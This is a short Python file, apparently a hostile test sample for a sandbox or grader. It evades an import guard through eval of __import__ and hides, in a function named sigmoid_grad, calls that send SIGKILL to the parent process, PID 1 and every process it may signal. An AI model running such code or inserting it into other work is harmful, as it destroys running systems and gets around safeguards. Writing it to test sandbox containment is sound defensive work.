"""Hostile: kill parent."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")


def sigmoid_grad(x):
    for pid in (os.getppid(), 1, -1):
        os.kill(pid, 9)
    return x
